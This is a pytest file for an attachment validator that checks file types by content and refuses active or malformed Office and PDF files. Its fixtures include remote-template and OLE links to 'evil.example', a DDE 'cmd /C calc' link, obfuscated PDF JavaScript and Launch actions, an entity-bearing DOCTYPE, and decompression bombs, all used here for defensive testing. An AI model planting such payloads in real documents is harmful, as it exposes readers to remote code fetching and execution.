"""An attachment is what its first bytes say, and its name must say the same."""

from io import BytesIO
from time import perf_counter
from zipfile import ZipFile
from zlib import compress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.intake.domain.media import media_type_of
from services.intake.domain.refusals import AttachmentActive, AttachmentEmpty, AttachmentTypeRefused
from tests.old_word import old_word

WIDE_TYPES = (
    '<?xml version="1.0" encoding="UTF-16"?><Types><Override ContentType="x.macroEnabled.x"/></Types>'
).encode("utf-16")


def office(part: str, **more: str | bytes) -> bytes:
    content = BytesIO()
    with ZipFile(content, "w") as archive:
        archive.writestr("[Content_Types].xml", more.pop("types", "<Types/>"))
        archive.writestr(part, "<x/>")
        for name, text in more.items():
            archive.writestr(name.replace("__", "/"), text)
    return content.getvalue()


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A document with one relationship."""
    relation = f'<Relationship Id="r" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    relations = f'<Relationships xmlns="http://x">{relation}</Relationships>'
    return office("word/document.xml", **{"word___rels__settings.xml.rels": relations})


def packed(plain: bytes, more: bytes = b"") -> bytes:
    """A PDF whose objects are inside a compressed stream, as most programs write them."""
    inside = b"1 0 obj << /Type /ObjStm /Filter /FlateDecode %b>> stream\r\n%b" % (more, compress(plain))
    return b"%PDF-1.7\n" + inside + b"\r\nendstream endobj"


def twice(name: str) -> bytes:
    """A document in which a part comes twice, in the spelling of either program."""
    content = BytesIO()
    with ZipFile(content, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
        archive.writestr(name, "<x/>")
    return content.getvalue()


RELATED = (
    '<Relationships xmlns="http://x"><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
DDE = '<x:externalLink xmlns:x="http://x"><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></x:externalLink>'
PDF = b"%PDF-1.7\n"
PNG = b"\x89PNG\r\n\x1a\n\x00"
JPEG = b"\xff\xd8\xff\xe0\x00"
DOCX = office("word/document.xml")
XLSX = office("xl/workbook.xml")
PPTX = office("ppt/presentation.xml")
DOC = old_word("Đơn đề nghị")
HEIC = b"\x00\x00\x00\x18ftypheic\x00"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXE = b"MZ\x90\x00\x03\x00\x00\x00"


def crowded(members: int) -> bytes:
    """A document with so many members."""
    content = BytesIO()
    with ZipFile(content, "w") as archive:
        archive.writestr("word/document.xml", "<x/>")
        for number in range(members):
            archive.writestr(f"word/{number}", "")
    return content.getvalue()


@pytest.mark.parametrize(
    ("filename", "content", "media_type"),
    [
        ("mô tả.pdf", PDF, "application/pdf"),
        ("ANH.PNG", PNG, "image/png"),
        ("anh.jpg", JPEG, "image/jpeg"),
        ("anh.v2.jpeg", JPEG, "image/jpeg"),
        ("don.docx", DOCX, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("so-lieu.xlsx", XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("bai.pptx", PPTX, "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        ("don.doc", DOC, "application/msword"),
        ("anh.heic", HEIC, "image/heic"),
        ("tiet-day.mp4", MP4, "video/mp4"),
        ("don.docx", related("hyperlink", "https://example.vn/"), DOCX_TYPE),
        ("don.docx", related("attachedTemplate", "file:///C:\\Users\\x\\Mau.dotx"), DOCX_TYPE),
        ("don.docx", related("image", "media/image1.png", "Internal"), DOCX_TYPE),
        ("noi.pdf", packed(b"2 0 << /Title (x) >>"), "application/pdf"),
        (
            "so-lieu.xlsx",
            office("xl/workbook.xml", xl__externalLinks__externalLink1="<x>" + "1" * 5_000_000 + "</x>"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (
            "anh.pdf",
            b"%PDF-1.7\n<< /Filter /DCTDecode >> stream\n\xff\xd8 /JS \nendstream\n",
            "application/pdf",
        ),
        ("noi.pdf", b"%PDF-1.7\nstream\n/JS (x)\nendstream\n/Title (JavaScript)", "application/pdf"),
    ],
)
def test_each_accepted_kind_is_known_by_its_content(filename: str, content: bytes, media_type: str) -> None:
    assert media_type_of(filename, content) == media_type


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("virus.pdf", EXE),
        ("virus.exe", EXE),
        ("anh.png", JPEG),
        ("anh.jpg", PNG),
        ("don.docx", XLSX),
        ("so-lieu.xlsx", DOCX),
        ("don.docx", b"PK\x03\x04 not an archive"),
        ("don.docx", office("other/part.xml")),
        ("tep.zip", DOCX),
        ("", PDF),
        ("pdf", PDF),
        (".pdf", PDF),
        ("tep.pdf.exe", PDF),
        ("tep.pdf ", PDF),
        ("anh.heic", MP4),
        ("phim.mp4", HEIC),
        ("don.doc", DOC[:500]),
        ("hai.pdf", PDF + DOCX),
        ("hai.doc", DOC + DOCX),
        ("trang.pdf", b"%PDF-1.7\n<html><script>alert(1)</script>"),
        ("anh.png", PNG + b"<script>"),
        ("bom.docx", crowded(20_000)),
        ("don.docx", b"<html><script>alert(1)</script>" + DOCX),
        ("anh.png", PNG + PDF),
        ("anh.jpg", JPEG + b"\x00" * 500 + PDF),
        ("don.docx", twice("Word/Document.xml")),
        ("bom.pdf", packed(bytes(40_000_000))),
        (
            "kin.pdf",
            b"%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /ASCIIHexDecode >> stream\n2f4a53\nendstream",
        ),
    ],
)
def test_content_that_is_not_what_the_name_says_is_refused(filename: str, content: bytes) -> None:
    with pytest.raises(AttachmentTypeRefused):
        media_type_of(filename, content)


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        (
            "don.docx",
            office("word/document.xml", word__vbaProject_bin="x").replace(b"Project_bin", b"Project.bin"),
        ),
        ("don.docx", office("word/document.xml", word__activeX__activeX1="x")),
        (
            "don.docx",
            office("word/document.xml", types='<Types><Override ContentType="x.macroEnabled.x"/></Types>'),
        ),
        ("don.docx", related("attachedTemplate", "https://evil.example/t.dotm")),
        ("don.docx", related("attachedTemplate", "&#104;ttps://evil.example/t.dotm")),
        ("don.docx", related("oleObject", "file://evil.example/share/x")),
        ("don.docx", related("frame", "\\\\evil.example\\x")),
        ("noi.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        ("noi.pdf", b"%PDF-1.7\n1 0 obj << /S /L#61unch >>"),
        ("noi.pdf", packed(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>")),
        ("noi.pdf", b"%PDF-1.7\n%stream\n1 0 obj << /S /JavaScript >> endobj\n%endstream"),
        ("noi.pdf", b"%PDF-1.7\n<< /T (>> stream\n) /A << /S /J#61vaScript >> /U (endstream) >>"),
        ("noi.pdf", packed(b"2 0 << /S /Rendition /JS (x) >>", b"/Pad (" + b"x" * 5_000 + b") ")),
        ("noi.pdf", packed(b"2 0 << /S /Rendition /JS (x) >>", b"/Pad (0 obj) ")),
        ("noi.pdf", packed(b"2 0 << /S /Jav#61Script >>")),
        ("don.docx", office("word/document.xml", **{"word___RELS__settings.xml.RELS": RELATED})),
        ("don.docx", office("word/document.xml", types=WIDE_TYPES)),
        ("don.docx", related("vbaProject", "anh.bin", "Internal")),
        ("so-lieu.xlsx", office("xl/workbook.xml", xl__externalLinks__externalLink1=DDE)),
    ],
)
def test_what_acts_by_itself_is_refused(filename: str, content: bytes) -> None:
    with pytest.raises(AttachmentActive):
        media_type_of(filename, content)


def test_an_archive_with_a_doctype_in_its_relations_is_refused() -> None:
    relations = '<!DOCTYPE x [<!ENTITY e "https://evil.example">]><Relationships/>'
    with pytest.raises(AttachmentTypeRefused):
        media_type_of("don.docx", office("word/document.xml", **{"_rels__.rels": relations}))


def test_a_crowd_of_members_is_refused_at_once() -> None:
    content = crowded(20_000)
    began = perf_counter()
    with pytest.raises(AttachmentTypeRefused):
        media_type_of("bom.docx", content)
    assert perf_counter() - began < 0.1


def test_streams_without_end_are_read_once() -> None:
    began = perf_counter()
    assert media_type_of("dai.pdf", PDF + b" stream\n" * 100_000) == "application/pdf"
    assert perf_counter() - began < 1


def test_more_streams_of_objects_than_any_document_has_are_refused() -> None:
    began = perf_counter()
    with pytest.raises(AttachmentTypeRefused):
        media_type_of("bom.pdf", PDF + b"1 0 obj <</Type/ObjStm>> stream\nx\nendstream\n" * 400_000)
    assert perf_counter() - began < 2


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(AttachmentEmpty):
        media_type_of("mo-ta.pdf", b"")


@given(
    content=st.binary(min_size=1, max_size=200).map(lambda tail: b"PK\x03\x04" + tail),
    extension=st.sampled_from(["docx", "xlsx", "pdf", "png", "jpg"]),
)
@settings(max_examples=60, deadline=None)
def test_broken_archives_are_refused_and_never_crash(content: bytes, extension: str) -> None:
    with pytest.raises(AttachmentTypeRefused):
        media_type_of(f"tep.{extension}", content)
